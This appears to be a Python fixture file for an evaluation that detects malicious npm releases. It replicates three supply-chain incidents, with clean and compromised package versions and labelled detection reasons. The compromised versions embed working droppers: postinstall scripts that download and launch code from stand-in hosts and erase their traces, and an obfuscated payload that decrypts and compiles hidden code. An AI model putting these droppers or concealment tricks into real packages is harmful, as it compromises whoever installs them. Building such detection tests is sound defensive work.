"""The popular package changes by one line: a dependency, which does the rest.

The dependant and the dependency are replicas of their own, since either may be the one that is asked about.
"""

from dataclasses import replace

from evals.replicas.ordinary.npm import ciphers, dates, http_client, streams
from evals.replicas.replica import ReleaseSpec, Replica, at
from evals.replicas.rewriting.javascript import string_array

_FAMILY = "dropper-dependency"

# ------------------------------------------------------------------------------------- axios 1.14.1, plain-crypto-js

#: Chooses a program by platform, leaves it running in the background, then removes itself and puts a clean manifest
#: in place of its own.
_SETUP = """\
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync, spawn } = require('child_process');

const HOME = 'http://telemetry.wrenmint.invalid:8000/';
const TARGETS = { darwin: 'product0', win32: 'product1', linux: 'product2' };

function place(kind) {
  if (kind === 'darwin') return '/Library/Caches/com.apple.act.mond';
  if (kind === 'win32') return path.join(process.env.PROGRAMDATA || os.tmpdir(), 'wt.exe');
  return '/tmp/ld.py';
}

function fetchStage(kind, target) {
  const body = 'packages.wren.invalid/' + TARGETS[kind];
  execSync('curl -s -o "' + target + '" -d "' + body + '" ' + HOME);
}

function launch(kind, target) {
  if (kind === 'linux') spawn('python3', [target, HOME], { detached: true, stdio: 'ignore' }).unref();
  else if (kind === 'darwin') spawn('/bin/zsh', ['-c', 'chmod 770 ' + target + ' && ' + target + ' ' + HOME + ' &'], { detached: true, stdio: 'ignore' }).unref();
  else spawn('cscript', ['//nologo', target], { detached: true, windowsHide: true, stdio: 'ignore' }).unref();
}

function tidy() {
  fs.unlinkSync(__filename);
  fs.unlinkSync(path.join(__dirname, 'package.json'));
  fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));
}

function main() {
  const kind = TARGETS[os.platform()] ? os.platform() : 'linux';
  const target = place(kind);
  try {
    fetchStage(kind, target);
    launch(kind, target);
  } catch (error) {
    process.exitCode = 0;
  }
  tidy();
}

main();
"""
_CLEAN_MANIFEST = """\
{
  "name": "plain-wren-cipher",
  "version": "4.2.0",
  "description": "Small digests and ciphers without native code.",
  "main": "index.js",
  "license": "MIT"
}
"""
_CIPHER = ciphers("plain-wren-cipher")
_CIPHER_REPOSITORY = {"type": "git", "url": "git+https://code.test/brix/wren-cipher.git"}
_CIPHER_MANIFEST = {
    "description": "Small digests and ciphers without native code.",
    "main": "index.js",
    "license": "MIT",
    "repository": _CIPHER_REPOSITORY,
    "keywords": ["cipher", "digest", "hash"],
}
_CIPHER_DECOY = ReleaseSpec(
    name="plain-wren-cipher",
    version="4.2.0",
    published=at("2026-03-30 05:57"),
    files=_CIPHER,
    manifest=_CIPHER_MANIFEST,
    publisher=("nrwise", "nrwise@letters.test"),
)
_CIPHER_BAD = ReleaseSpec(
    name="plain-wren-cipher",
    version="4.2.1",
    published=at("2026-03-30 23:59"),
    files={**_CIPHER, "setup.js": string_array(_SETUP) or "", "package.md": _CLEAN_MANIFEST},
    manifest={**_CIPHER_MANIFEST, "scripts": {"postinstall": "node setup.js"}},
    publisher=("nrwise", "nrwise@letters.test"),
    payload=("setup.js",),
    plain={"setup.js": _SETUP},
)
_CLIENT = http_client("wrenfetch")
_CLIENT_MANIFEST = {
    "description": "A small HTTP client for Node with promises, JSON and time-outs.",
    "main": "lib/index.js",
    "license": "MIT",
    "repository": {"type": "git", "url": "git+https://code.test/wrenfetch/wrenfetch.git"},
    "scripts": {"test": "node test/headers.test.js"},
    "dependencies": {"follow-hops": "^1.15.6", "form-parcel": "^4.0.0"},
}
_KNOWN = (
    ReleaseSpec(name="follow-hops", version="1.15.6", published=at("2024-03-14 18:00"), files={"index.js": "module.exports = (url) => url;\n"}),
    ReleaseSpec(name="form-parcel", version="4.0.0", published=at("2024-02-14 18:00"), files={"index.js": "module.exports = class FormParcel {};\n"}),
)
_CLIENT_BEFORE = ReleaseSpec(
    version="1.14.0",
    published=at("2026-03-27 12:04"),
    files=_CLIENT,
    manifest=_CLIENT_MANIFEST,
    publisher=("jsayer", "jsayer@wrenfetch.test"),
    trusted=True,
    provenance=True,
)
_CLIENT_AFTER = replace(
    _CLIENT_BEFORE,
    version="1.14.1",
    published=at("2026-03-31 00:21"),
    manifest={**_CLIENT_MANIFEST, "dependencies": {**_CLIENT_MANIFEST["dependencies"], "plain-wren-cipher": "^4.2.1"}},
    publisher=("jsayer", "ifstap@letters.test"),
    trusted=False,
    provenance=False,
)
_CLIENT_EARLIER = replace(_CLIENT_BEFORE, version="1.13.2", published=at("2026-01-12 09:30"))

# --------------------------------------------------------------------------- event-stream 3.3.6, flatmap-stream 0.1.1

#: What the real one did: the data in `test/data.js` is a program, encrypted with the description of whoever installs
#: the package; anybody else sees nothing happen.
_FLAT_INDEX = """\
'use strict';

const { Transform } = require('stream');

module.exports = function plainmap(change) {
  return new Transform({
    objectMode: true,
    transform(item, encoding, done) {
      for (const one of [].concat(change(item))) this.push(one);
      done();
    },
  });
};
"""
_FLAT_PAYLOAD = """\
function unhex(text) {
  return Buffer.from(text, 'hex').toString();
}

function open(data, secret) {
  const decipher = require(unhex('63727970746f'))[unhex('6372656174654465636970686572')](unhex('616573323536'), secret);
  return decipher.update(data, 'hex', 'utf8') + decipher.final('utf8');
}

function run() {
  const data = require('./test/data');
  const secret = process[unhex('656e76')][unhex('6e706d5f7061636b6167655f6465736372697074696f6e')];
  if (!secret) return;
  const text = open(data[0], secret);
  const extra = new module.constructor();
  extra.paths = module.paths;
  extra._compile(text, '');
  extra.exports(data[1]);
}

try {
  run();
} catch (error) {}
"""
_FLAT_DATA = "module.exports = [\n  '" + "75d4c87f3f69e0fa292969072c49dff4f90f44c1385d8eb60dae4cc3a229e52c" * 24 + "',\n  '" + (
    "db67fdbfc39c249c6f338194555a41928413b792ff41855e27752e227ba81571" * 8
) + "',\n];\n"
_FLAT = {
    "index.js": _FLAT_INDEX,
    "README.md": "# plainmap-stream\n\nMaps one item to many.\n",
    "test/index.js": "const plainmap = require('..');\nplainmap((item) => [item, item]).on('data', console.log).end(1);\n",
}
_FLAT_BEFORE = ReleaseSpec(
    version="0.1.0",
    published=at("2018-08-05 20:02"),
    files=_FLAT,
    manifest={"main": "index.js", "description": "Maps one item to many.", "license": "MIT"},
    publisher=("hugeglass", "hugeglass@letters.test"),
)
_FLAT_AFTER = replace(
    _FLAT_BEFORE,
    version="0.1.1",
    published=at("2018-10-05 14:25"),
    files={**_FLAT, "index.js": _FLAT_INDEX + _FLAT_PAYLOAD, "test/data.js": _FLAT_DATA},
    payload=("index.js",),
)
_STREAMS = streams("streamfolk")
_STREAMS_MANIFEST = {"main": "index.js", "license": "MIT", "scripts": {"test": "node test/lines.js"}}
_STREAMS_BEFORE = ReleaseSpec(
    version="3.3.4",
    published=at("2016-07-15 19:10"),
    files=_STREAMS,
    manifest=_STREAMS_MANIFEST,
    publisher=("dominie", "dominie@streamfolk.test"),
)
_STREAMS_AFTER = replace(
    _STREAMS_BEFORE,
    version="3.3.6",
    published=at("2018-10-05 16:00"),
    files={**_STREAMS, "index.js": _STREAMS["index.js"] + "\nexports.plainmap = require('plainmap-stream');\n"},
    manifest={**_STREAMS_MANIFEST, "dependencies": {"plainmap-stream": "^0.1.0"}},
    publisher=("right9crtl", "right9crtl@letters.test"),
)

# -------------------------------------------------------------------------------------------- Mastra, easy-day-js

_DAYS_SETUP = """\
'use strict';

const http = require('http');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

const ENDPOINT = { host: '203.0.113.164', port: 8000, path: '/v1/timezones/' + process.platform };

function save(body) {
  const file = path.join(os.tmpdir(), '.tzdata-' + process.pid);
  fs.writeFileSync(file, body, { mode: 0o755 });
  return file;
}

function start(file) {
  const child = spawn(process.execPath, [file, os.hostname()], { detached: true, stdio: 'ignore', windowsHide: true });
  child.unref();
}

http.get(ENDPOINT, (response) => {
  const parts = [];
  response.on('data', (part) => parts.push(part));
  response.on('end', () => start(save(Buffer.concat(parts))));
}).on('error', () => {});
"""
_DAYS = dates("simple-daylark")
_DAYS_MANIFEST = {"main": "index.js", "license": "MIT", "repository": {"type": "git", "url": "https://code.test/daylark/daylark.git"}}
_DAYS_OLD = ReleaseSpec(
    name="simple-daylark",
    version="1.11.20",
    published=at("2026-06-01 10:00"),
    files=_DAYS,
    manifest=_DAYS_MANIFEST,
    publisher=("tzkeeper", "tzkeeper@letters.test"),
)
_DAYS_BAD = replace(
    _DAYS_OLD,
    version="1.11.22",
    published=at("2026-06-16 03:40"),
    files={**_DAYS, "scripts/timezones.js": _DAYS_SETUP},
    manifest={**_DAYS_MANIFEST, "scripts": {"postinstall": "node scripts/timezones.js"}},
    payload=("scripts/timezones.js",),
)
_AGENT_FILES = {
    "dist/index.js": """\
'use strict';

const { planSteps } = require('./plan.js');

exports.createAgent = function createAgent({ model, tools = {} }) {
  return {
    async run(task) {
      const results = [];
      for (const step of planSteps(task)) {
        const tool = tools[step.tool];
        results.push(tool ? await tool(step.input) : await model(step.input));
      }
      return results;
    },
  };
};
""",
    "dist/plan.js": "'use strict';\n\nexports.planSteps = (task) => task.split('\\n').filter(Boolean).map((line) => ({ tool: line.split(' ')[0], input: line }));\n",
    "README.md": "# larkstage\n\nAgents that follow a plan.\n",
    "LICENSE": "Apache-2.0\n",
}
_AGENT_BEFORE = ReleaseSpec(
    version="0.20.1",
    published=at("2026-06-12 15:00"),
    files=_AGENT_FILES,
    manifest={"main": "dist/index.js", "license": "Apache-2.0", "dependencies": {"follow-hops": "^1.15.6"}},
    publisher=("larkstage-bot", "releases@larkstage.test"),
    trusted=True,
    provenance=True,
)
_AGENT_AFTER = replace(
    _AGENT_BEFORE,
    version="0.20.2",
    published=at("2026-06-16 04:05"),
    manifest={**_AGENT_BEFORE.manifest, "dependencies": {"follow-hops": "^1.15.6", "simple-daylark": "^1.11.20"}},
    publisher=("ehlark", "ehlark@larkstage.test"),
    trusted=False,
    provenance=False,
)

REPLICAS: tuple[Replica, ...] = (
    Replica(
        id="axios-dependant",
        incident="axios 1.14.1 (2026-03-31)",
        family=_FAMILY,
        ecosystem="npm",
        name="wrenfetch",
        before=_CLIENT_BEFORE,
        after=_CLIENT_AFTER,
        others=(_CLIENT_EARLIER, *_KNOWN, _CIPHER_DECOY, _CIPHER_BAD),
        reasons=("risky-new-dependency", "dependency-never-imported", "publisher-changed", "provenance-lost", "provenance-changed"),
        carrier="plain-wren-cipher",
    ),
    Replica(
        id="axios-dropper",
        incident="plain-crypto-js 4.2.1 (2026-03-30)",
        family=_FAMILY,
        ecosystem="npm",
        name="plain-wren-cipher",
        before=_CIPHER_DECOY,
        after=_CIPHER_BAD,
        reasons=(
            "install-time-download-and-run",
            "encoded-code-executed",
            "obfuscated-code",
            "own-traces-removed",
            "install-script-added",
        ),
    ),
    Replica(
        id="event-stream",
        incident="event-stream 3.3.6 (2018-09-09)",
        family=_FAMILY,
        ecosystem="npm",
        name="streamfolk",
        before=_STREAMS_BEFORE,
        after=_STREAMS_AFTER,
        others=(replace(_FLAT_BEFORE, name="plainmap-stream"), replace(_FLAT_AFTER, name="plainmap-stream")),
        reasons=("risky-new-dependency", "new-publisher-with-new-code", "publisher-changed", "dormant-then-active"),
        carrier="plainmap-stream",
    ),
    Replica(
        id="flatmap-stream",
        incident="flatmap-stream 0.1.1 (2018-10-05)",
        family=_FAMILY,
        ecosystem="npm",
        name="plainmap-stream",
        before=_FLAT_BEFORE,
        after=_FLAT_AFTER,
        reasons=("encoded-code-executed", "capability-gained", "indirect-eval", "obfuscated-code", "data-file-executed"),
    ),
    Replica(
        id="mastra-dependant",
        incident="Mastra packages (2026-06)",
        family=_FAMILY,
        ecosystem="npm",
        name="larkstage",
        before=_AGENT_BEFORE,
        after=_AGENT_AFTER,
        others=(*_KNOWN, _DAYS_OLD, _DAYS_BAD),
        reasons=("risky-new-dependency", "dependency-never-imported", "publisher-changed", "provenance-lost", "provenance-changed"),
        carrier="simple-daylark",
    ),
    Replica(
        id="easy-day-js",
        incident="easy-day-js 1.11.22 (2026-06)",
        family=_FAMILY,
        ecosystem="npm",
        name="simple-daylark",
        before=_DAYS_OLD,
        after=_DAYS_BAD,
        reasons=("install-time-download-and-run", "raw-address-contacted", "install-script-added"),
    ),
)
